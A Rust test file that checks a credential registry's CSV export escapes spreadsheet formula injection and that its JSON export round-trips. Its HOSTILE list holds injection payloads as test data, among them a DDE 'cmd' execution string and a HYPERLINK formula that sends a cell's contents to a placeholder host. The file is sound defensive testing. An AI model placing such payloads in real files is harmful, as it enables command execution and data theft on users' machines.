//! A list as a file: CSV that no spreadsheet runs, and JSON.

use proptest::prelude::*;
use regcred::listing::{Csv, Entry, to_csv, to_json};
use regcred::model::{Credential, Status};

use crate::{NOW, entry, listed};

/// What a spreadsheet may run, or read as other cells, other lines or another text.
const HOSTILE: [&str; 18] = [
    "=1+1",
    "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "a,b",
    "a\"b",
    "a\r\nb",
    "\",=1+1,\"",
    " =1+1",
    "'=1+1",
    "\u{202e}gnigats\u{202c} dorP",
    "Zürich, 東京 🔑",
];

fn entries(descriptions: &[&str]) -> Vec<Entry> {
    let numbered = descriptions.iter().enumerate();
    numbered.map(|(n, description)| entry(listed(&n.to_string(), description))).collect()
}

fn csv_of(entries: &[Entry]) -> Csv {
    to_csv(&entries.iter().collect::<Vec<_>>(), NOW)
}

/// The lines of a file, heads first.
fn read(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let records = reader.records().map(|record| record.expect("lines of one length"));
    records.map(|record| record.iter().map(str::to_owned).collect()).collect()
}

fn descriptions(text: &str) -> Vec<String> {
    read(text).into_iter().skip(1).map(|mut line| line.swap_remove(2)).collect()
}

#[test]
fn hostile_cells_come_back_as_text_that_no_spreadsheet_runs() {
    let csv = csv_of(&entries(&HOSTILE));
    assert_eq!(csv.guarded, 10);
    let expected = HOSTILE
        .iter()
        .enumerate()
        .map(|(n, text)| if n < 10 { format!("'{text}") } else { (*text).to_owned() });
    assert_eq!(descriptions(&csv.text), expected.collect::<Vec<_>>());
}

#[test]
fn every_cell_is_guarded_not_only_descriptions() {
    let hostile = || Some("=1".to_owned());
    let all = Credential {
        name: "=1".to_owned(),
        created_at: hostile(),
        created_by: hostile(),
        updated_at: hostile(),
        updated_by: hostile(),
        removed_at: None,
        removed_by: hostile(),
        expires_at: hostile(),
        status: Some(Status::Other("=1".to_owned())),
        ..listed("=1", "=1")
    };
    let csv = csv_of(&[entry(all)]);
    assert_eq!(csv.guarded, 10);
    let lines = read(&csv.text);
    assert!(lines[1].iter().all(|cell| cell == "'=1" || cell.is_empty()), "{lines:?}");
}

#[test]
fn the_file_says_what_the_table_says() {
    let expired =
        Credential { status: Some(Status::Active), expires_at: Some(NOW.to_string()), ..listed("1", "A") };
    let bare = listed("2", "B");
    let removed = Credential {
        removed_at: Some("7".to_owned()),
        removed_by: Some("maria".to_owned()),
        ..listed("3", "C")
    };
    let entries: Vec<Entry> = [expired, bare, removed].into_iter().map(entry).collect();
    let csv = csv_of(&entries);
    assert_eq!(
        csv.text,
        format!(
            "id,name,description,status,expires_at,created_at,created_by,updated_at,updated_by,removed_at,removed_by\r\n\
             1,,A,EXPIRED,{NOW},,,,,,\r\n\
             2,,B,ACTIVE,,,,,,,\r\n\
             3,,C,REMOVED,,,,,,7,maria\r\n"
        )
    );
    assert_eq!(csv.guarded, 0);
    let json = to_json(&entries.iter().collect::<Vec<_>>(), NOW);
    let read: Vec<Credential> = serde_json::from_str(&json).expect("credentials");
    assert_eq!(read.iter().map(|it| &*it.id).collect::<Vec<_>>(), ["1", "2", "3"]);
    assert_eq!(
        read.into_iter().map(|it| it.status).collect::<Vec<_>>(),
        [Some(Status::Expired), Some(Status::Active), Some(Status::Removed)]
    );
}

#[test]
fn no_rows_are_a_file_all_the_same() {
    assert_eq!(read(&csv_of(&[]).text).len(), 1);
    assert_eq!(to_json(&[], NOW), "[]\n");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever the texts are: the lines stay lines, and what is read is the text, or the text behind
    /// an apostrophe.
    #[test]
    fn any_text_comes_back(texts in prop::collection::vec(any::<String>(), 0..8)) {
        let entries = entries(&texts.iter().map(|text| &**text).collect::<Vec<_>>());
        let csv = csv_of(&entries);
        let read = descriptions(&csv.text);
        prop_assert_eq!(read.len(), texts.len());
        let mut guarded = 0;
        for (read, text) in read.iter().zip(&texts) {
            prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
            if read != text {
                prop_assert_eq!(read, &format!("'{text}"));
                guarded += 1;
            }
        }
        prop_assert_eq!(csv.guarded, guarded);
        let json = to_json(&entries.iter().collect::<Vec<_>>(), NOW);
        let read: Vec<Credential> = serde_json::from_str(&json).expect("credentials");
        prop_assert!(read.iter().map(|it| &it.description).eq(&texts));
    }
}
